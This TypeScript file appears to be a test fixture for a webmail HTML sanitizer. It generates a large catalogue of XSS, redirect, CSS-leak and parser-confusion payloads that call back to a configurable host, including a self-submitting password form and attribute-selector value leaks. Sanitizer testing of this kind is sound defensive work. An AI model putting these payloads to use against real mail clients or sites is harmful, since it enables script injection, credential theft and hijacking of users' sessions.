/** What a script would do, wherever it comes to run: it calls home, speaks up, and takes the page away. */
const run = (home: string, how: string) =>
  `new Image().src='${home}/ran-${how}';parent.hacked=1;alert('${how}');top.location='${home}/taken-${how}'`

const quote = (script: string) => script.replaceAll('"', '&quot;')
const encode = (text: string) => Buffer.from(text).toString('base64')

/**
 * Messages that want to run, load or lead somewhere, by what they try it with: as many as a mailbox lists. Whoever has to
 * press something finds it by "press me". https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 * and the advisories of webmail programs (Roundcube CVE-2024-37383, CVE-2026-48849) have most of them.
 */
export function listHostileMessages(home: string): Record<string, string> {
  const script = (how: string) => quote(run(home, how))
  const picture = `<svg xmlns='http://www.w3.org/2000/svg'><script>${run(home, 'svg-data')}</script></svg>`
  return {
    scripts: `
      <script>${run(home, 'script')}</script>
      <script src="${home}/script-src"></script>
      <script type="module">import '${home}/module'</script>
      <scr<script>ipt>${run(home, 'nested')}</script>
      <noscript><p title="</noscript><script>${script('noscript')}</script>"></noscript>`,
    handlers: `
      <img src="${home}/none" onerror="${script('onerror')}">
      <body onload="${script('onload')}" onpageshow="${script('pageshow')}">
      <details open ontoggle="${script('toggle')}">x</details>
      <input autofocus onfocus="${script('focus')}">
      <p style="animation:x 1s" onanimationstart="${script('animation')}">x</p><style>@keyframes x{}</style>
      <button onclick="${script('click')}">press me</button>
      <p onpointerenter="${script('pointer')}" tabindex="1">press me</p>`,
    forms: `
      <form id="sent" action="${home}/form" onsubmit="${script('submit')}">
        <input name="password" autofocus onfocus="this.form.submit()"><button>press me</button></form>
      <button form="sent" formaction="${home}/formaction">press me</button>
      <form action="${home}/form-get" target="_top"><input type="submit" value="press me"></form>
      <form action="javascript:${script('form')}"><input type="image" src="${home}/input-image"></form>`,
    redirects: `
      <meta http-equiv="refresh" content="0;url=${home}/refresh">
      <meta http-equiv="refresh" content="0;url=data:text/html,<script>${script('data-refresh')}</script>">
      <meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">
      <base href="${home}/base/"><img src="relative.gif"><a href="#" target="_top">x</a>`,
    drawings: `
      <svg onload="${script('svg')}"><script>${run(home, 'svg-script')}</script>
        <image href="${home}/svg-image"/><image xlink:href="${home}/svg-xlink"/>
        <use href="${home}/svg-use#x"/>
        <filter id="f"><feImage href="${home}/svg-feimage"/></filter>
        <rect width="9" height="9" filter="url(#f)" fill="url(${home}/svg-fill#x)"/>
        <a href="javascript:${script('svg-a')}"><text y="20">press me</text></a>
        <a><animate attributeName="href" values="javascript:${script('animate')}"/><text y="40">press me</text></a>
        <set attributeName="onmouseover" to="${script('set')}"/>
        <foreignObject><img src="${home}/foreign" onerror="${script('foreign')}"></foreignObject>
        <style>@import '${home}/svg-import'</style></svg>
      <img src="data:image/svg+xml;base64,${encode(picture)}">
      <math href="javascript:${script('math')}">press me</math>`,
    styles: `
      <style>@import '${home}/import';@import url(${home}/import-url);
        @font-face{font-family:f;src:url(${home}/font)}
        p{font-family:f;background:url(${home}/background);list-style:url(${home}/list);cursor:url(${home}/cursor),auto}
        p::before{content:url(${home}/content)}
        input[value^=s]{background:image-set(url(${home}/leak-s) 1x)}</style>
      <input value="secret"><p>x</p>
      <link rel="stylesheet" href="${home}/sheet"><p style="background:url(${home}/inline)">x</p>
      <p style="background:u\\72l(${home}/escaped)">x</p><p style="behavior:url(${home}/behavior)">x</p>
      <div style="position:fixed;inset:0;background:url(${home}/overlay)">x</div>`,
    pictures: `
      <img src="${home}/src"><img src="//${home.slice(5).replace(/^\/+/, '')}/no-scheme">
      <img srcset="${home}/srcset 1x" sizes="1px"><img loading="lazy" src="${home}/lazy">
      <picture><source srcset="${home}/source"><img src="data:,"></picture>
      <table background="${home}/table"><tr><td background="${home}/cell">x</td></tr></table>
      <video poster="${home}/poster" src="${home}/video" autoplay></video><audio src="${home}/audio" autoplay></audio>
      <video><source src="${home}/video-source"><track src="${home}/track" default></video>
      <link rel="preload" as="image" href="${home}/preload"><link rel="prefetch" href="${home}/prefetch">
      <link rel="modulepreload" href="${home}/modulepreload"><link rel="icon" href="${home}/icon">
      <link rel="prerender" href="${home}/prerender"><link rel="manifest" href="${home}/manifest">
      <link rel="dns-prefetch" href="${home}"><link rel="preconnect" href="${home}">`,
    links: `
      <a href="javascript:${script('link')}">press me</a>
      <a href="jav&#x09;ascript:${script('tab')}">press me</a>
      <a href=" &#1; javascript:${script('control')}" target="_self">press me</a>
      <a href="data:text/html,<script>${script('data')}</script>">press me</a>
      <a href="${home}/top" target="_top">press me</a>
      <a href="${home}/parent" target="_parent">press me</a>
      <a href="#" ping="${home}/ping">press me</a>
      <a href="${home}/self" target="_self">press me</a>
      <map name="m"><area href="${home}/area" target="_top" shape="default"></map>`,
    frames: `
      <iframe src="${home}/iframe"></iframe>
      <iframe srcdoc="<script>${script('srcdoc')}</script><img src='${home}/srcdoc'>"></iframe>
      <iframe src="javascript:${script('iframe')}"></iframe>
      <object data="${home}/object"></object><object data="data:text/html,<script>${script('object')}</script>"></object>
      <embed src="${home}/embed"><frameset><frame src="${home}/frame"></frameset>
      <portal src="${home}/portal"></portal><fencedframe></fencedframe>`,
    confusions: `
      <math><mtext><table><mglyph><style><img src="${home}/mglyph" onerror="${script('mglyph')}"></style></table></math>
      <svg></p><style><g title="</style><img src=${home}/svg-style onerror=&quot;${script('svg-style')}&quot;>"></g></svg>
      <form><math><mtext></form><form><mglyph><style></math><img src="${home}/form-math" onerror="${script('form-math')}"></style>
      <noscript><style></noscript><img src="${home}/noscript" onerror="${script('noscript-style')}"></style>
      <textarea></textarea><img src="${home}/textarea" onerror="${script('textarea')}">
      <template><img src="${home}/template" onerror="${script('template')}"></template>
      <select><style></select><img src="${home}/select" onerror="${script('select')}"></style></select>
      <!--><img src="${home}/comment" onerror="${script('comment')}">-->
      <![CDATA[><img src="${home}/cdata" onerror="${script('cdata')}">]]>
      <xmp><p title="</xmp><img src=${home}/xmp onerror=&quot;${script('xmp')}&quot;>">
      <a id="document" name="location"></a><img name="body" src="${home}/clobber">
      </div></body></html><img src="${home}/after" onerror="${script('after')}"><plaintext><script>`,
  }
}
